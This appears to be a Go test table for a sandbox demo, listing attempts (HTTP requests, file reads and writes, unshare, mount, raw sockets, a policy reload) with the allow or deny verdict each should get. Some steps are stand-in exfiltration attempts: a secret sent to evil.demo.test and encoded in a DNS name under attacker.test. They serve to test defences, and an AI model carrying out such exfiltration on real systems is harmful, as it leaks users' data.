// SPDX-License-Identifier: Apache-2.0

package main

// step is one attempt in the sandbox and its expected result.
type step struct {
	title string
	// program is the program that makes the attempt, with args; empty means probe.
	program string
	args    []string
	// answers are texts that the program's output must contain.
	answers []string
	// line is a text in the line of the policy that decides, for use if the proxy's record
	// names no line: for refusals by the kernel, and for what no entry allows. builtin
	// names what decides if no line does.
	line, builtin string
	// verdict is the verdict about host that the proxy must have recorded; empty if it is
	// not checked.
	verdict, host string
	// received is the only request that the server must have received; empty means none.
	received string
	// reload, if set, replaces the first text in the policy by the second one, instead of
	// running a program.
	reload [2]string
}

const seccomp = "the built-in seccomp filter, whatever the policy says"

// secret stands for data that a hostile program would exfiltrate: "secret" in a form that a
// name can contain.
const secret = "736563726574"

var steps = []step{
	{
		title: "a GET that the policy allows",
		args:  []string{"http", "GET", "https://api.demo.test/v1/issues"}, answers: []string{" 200 ", "GET /v1/issues"},
		verdict: "allow", host: "api.demo.test", received: "GET api.demo.test/v1/issues",
	},
	{
		title: "a POST to the same place",
		args:  []string{"http", "POST", "https://api.demo.test/v1/issues", secret}, answers: []string{" 403 ", `"error":"policy_denied"`, `"method":"POST"`},
		verdict: "deny", host: "api.demo.test",
	},
	{
		title: "the POST by a client without proxy settings",
		args:  []string{"direct", "POST", "https://api.demo.test/v1/issues", secret}, answers: []string{" 403 ", `"error":"policy_denied"`},
		verdict: "deny", host: "api.demo.test",
	},
	{
		title: "the GET by another program", program: "/bin/stranger",
		args: []string{"direct", "GET", "https://api.demo.test/v1/issues"}, answers: []string{" 403 ", `"error":"policy_denied"`},
		line: "binaries: [/bin/probe]", verdict: "deny", host: "api.demo.test",
	},
	{
		title: "a host of which only the connection is judged",
		args:  []string{"http", "GET", "https://docs.demo.test/guide"}, answers: []string{" 200 ", "GET /guide"},
		verdict: "allow", host: "docs.demo.test", received: "GET docs.demo.test/guide",
	},
	{
		title: "another host",
		args:  []string{"direct", "GET", "https://evil.demo.test/" + secret}, answers: []string{" 403 ", `"error":"policy_denied"`},
		line: "network_policies:", verdict: "deny", host: "evil.demo.test",
	},
	{
		title: "another host, by CONNECT",
		args:  []string{"http", "GET", "https://evil.demo.test/" + secret}, answers: []string{"error: ", "Forbidden"},
		line: "network_policies:", verdict: "deny", host: "evil.demo.test",
	},
	{
		title: "a secret exfiltrated in a DNS name",
		args:  []string{"lookup", secret + ".attacker.test"}, answers: []string{"error: ", "no such host"},
		line: "network_policies:", verdict: "deny", host: secret + ".attacker.test",
	},
	{
		title: "a file that the policy names",
		args:  []string{"read", "/etc/motd"}, answers: []string{"ok: "},
		line: "read_only:",
	},
	{
		title: "a file outside the policy",
		args:  []string{"read", "/secret/key"}, answers: []string{"error: EACCES"},
		line: "filesystem_policy:",
	},
	{
		title: "writing where the policy says read",
		args:  []string{"write", "/etc/motd"}, answers: []string{"error: EACCES"},
		line: "read_only:",
	},
	{title: "unshare: a user namespace", args: []string{"unshare"}, answers: []string{"error: EPERM"}, builtin: seccomp},
	{title: "mount", args: []string{"mount"}, answers: []string{"error: EPERM"}, builtin: seccomp},
	{title: "a raw socket", args: []string{"raw"}, answers: []string{"error: EPERM"}, builtin: seccomp},
	{
		title: "a new policy, without a restart", reload: [2]string{"access: read-only", "access: read-write"},
		answers: []string{"revision 2"}, line: "access: read-write",
	},
	{
		title: "the POST again, in the same sandbox",
		args:  []string{"http", "POST", "https://api.demo.test/v1/issues", "a new issue"}, answers: []string{" 200 ", "POST /v1/issues"},
		verdict: "allow", host: "api.demo.test", received: "POST api.demo.test/v1/issues",
	},
}
